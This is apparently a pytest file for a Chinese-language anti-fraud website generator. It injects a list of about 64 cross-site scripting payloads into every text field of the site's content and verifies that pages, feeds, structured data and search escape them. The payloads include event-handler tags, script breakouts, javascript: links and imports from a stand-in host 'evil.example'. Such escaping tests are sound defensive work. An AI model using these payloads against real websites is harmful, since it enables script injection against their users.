"""Text that wants to be a program: 64 payloads in every field, body and table must stay text.

The checks refuse such text; here they are passed by, because one day something will get through.
The shipped library is taken and each of its Chinese texts is followed by the next payload, so that
every field of every kind meets many of them, in pages, feeds, structured data and search.
"""

from __future__ import annotations

import dataclasses
import json
import re
import shutil
from collections.abc import Iterator, Mapping
from itertools import cycle
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from playwright.sync_api import Browser, ConsoleMessage, expect
from pydantic import BaseModel

from fanzha import site
from fanzha.content.library import Item
from fanzha.content.reading.nodes import Document
from fanzha.content.reading.source import Source
from fanzha.edition import Edition, Project, read_edition
from tests.conftest import ROOT, TODAY, Some
from tests.site.conftest import serving
from tests.site.pages import html_files, name, read

RUN = "bad()"
HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe src=x",
)
PAYLOADS = [
    *(f"<{tag} {handler}={RUN}>" for tag in TAGS for handler in HANDLERS),
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}",
    f"`${{{RUN}}}`",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"<a href=javascript:{RUN}>点这里</a>",
    f"[点这里](javascript:{RUN})",
    f'![图](x" onerror="{RUN})',
    f"<javascript:{RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>",
    "<base href=//evil.example/><script src=x.js></script>",
    f"<object data=javascript:{RUN}></object>",
    "<style>@import '//evil.example/x.css'</style>",
    f"{{{{ {RUN} }}}}{{% print({RUN}) %}}",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
]
CHINESE = re.compile(r"[\u4e00-\u9fff]")


def spoilt(value: Any, payloads: Iterator[str]) -> Any:
    """The value with a payload behind each Chinese text; the models are not asked."""
    if isinstance(value, BaseModel):
        update = {
            field: spoilt(part, payloads)
            for field, part in value
            if field not in ("allow", "official")
        }
        return value.model_copy(update=update)
    if type(value) is str and CHINESE.search(value):
        return f"{value} {next(payloads)}"
    if isinstance(value, tuple):
        return tuple(spoilt(part, payloads) for part in value)
    if isinstance(value, Mapping):
        return {key: spoilt(part, payloads) for key, part in value.items()}
    return value


def spoilt_item(item: Item[Any], payloads: Iterator[str]) -> Item[Any]:
    lines = (*item.document.source.lines, "", *(f"- 说 {next(payloads)}\n" for _ in range(4)))
    source = Source(item.document.source.path, tuple("\n".join(lines).split("\n")))
    document = Document(source, item.document.fields, item.document.body_line)
    return dataclasses.replace(item, meta=spoilt(item.meta, payloads), document=document)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of a library that somebody has spoilt on purpose."""
    root = tmp_path_factory.mktemp("hostile")
    for folder in ("docs", "overrides"):
        shutil.copytree(ROOT / folder, root / folder)
    shutil.copyfile(ROOT / "mkdocs.yml", root / "mkdocs.yml")
    edition, findings = read_edition(Project(root, root / "docs", "shifan", TODAY))
    assert findings == []
    payloads = cycle(PAYLOADS)
    items = tuple(spoilt_item(item, payloads) for item in edition.library.items)
    tables = dataclasses.replace(
        edition.tables,
        **{
            field: spoilt(getattr(edition.tables, field), payloads)
            for field in ("audiences", "venues", "channels", "numbers", "glossary", "slogans")
        },
        rules=spoilt(edition.tables.rules, payloads),
    )
    spoilt_edition = Edition(
        edition.project,
        dataclasses.replace(edition.library, items=items),
        spoilt(edition.region, payloads),
        tables,
    )
    site.build(spoilt_edition, root / "mkdocs.yml", root / "site", [], {})
    return root / "site"


def test_there_are_enough_of_them() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def test_no_payload_became_an_element(hostile: Path) -> None:
    """By the tags of every page: no handler, no foreign source, no script address."""
    pages = [*html_files(hostile), *hostile.glob("q/*/index.html")]
    assert len(pages) > 300
    for path in pages:
        page = read(path)
        for tag, values in page.tags:
            seen = (name(hostile, path), tag, values)
            assert not [attribute for attribute in values if attribute.startswith("on")], seen
            assert values.get("src") != "x" and "evil" not in values.get("src", ""), seen
            assert not values.get("href", "").lower().strip().startswith("javascript:"), seen
        assert RUN not in page.script.replace("\\u003c", "<") or "ld+json" in path.read_text(
            encoding="utf-8"
        ), name(hostile, path)


def test_feeds_and_data_stay_well_formed(hostile: Path) -> None:
    """A reader of feeds, or a search engine, parses what a resident never sees."""
    for path in (*hostile.rglob("feed.xml"), hostile / "sitemap.xml"):
        ElementTree.parse(path)
    for path in hostile.rglob("feed.json"):
        json.loads(path.read_text(encoding="utf-8"))
    blocks = 0
    for path in html_files(hostile):
        text = path.read_text(encoding="utf-8")
        for block in re.findall(r'<script type="application/ld\+json">(.*?)</script>', text, re.S):
            json.loads(block)
            blocks += 1
    assert blocks > 100


def test_nothing_runs_in_a_browser(hostile: Path, browser: Browser, some: Some) -> None:
    """Pages and a search, with the policy taken away, so that only escaping protects.

    In a usual run each list and single page and three of the items of each kind; the tags of all
    pages are looked at above.
    """
    pages = [*enumerate(html_files(hostile))]
    opened = some(pages, lambda one: (one[1].parts[-3], one[0] % 3))
    ran: list[str] = []
    refused: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        if "evil.example" in message.text:
            refused.append(message.text)

    with serving(hostile) as address:
        context = browser.new_context(bypass_csp=True, service_workers="block")
        page = context.new_page()
        page.add_init_script(
            f"window.{RUN.removesuffix('()')} = () => console.error('evil.example');"
        )
        page.on("console", hear)
        page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
        for _, path in opened:
            page.goto(address + name(hostile, path).removesuffix("index.html"), wait_until="load")
        for words in ("onerror", "script", "刷单", "bad()"):
            page.goto(f"{address}search/?q={words}")
            page.locator("#fz-found:not([aria-busy=true])").wait_for()
            expect(page.locator("#fz-said")).not_to_be_empty()
            assert (
                page.locator("#fz-found script, #fz-found img:not([src*='/assets/'])").count() == 0
            ), words
        context.close()
    assert (ran, refused) == ([], [])
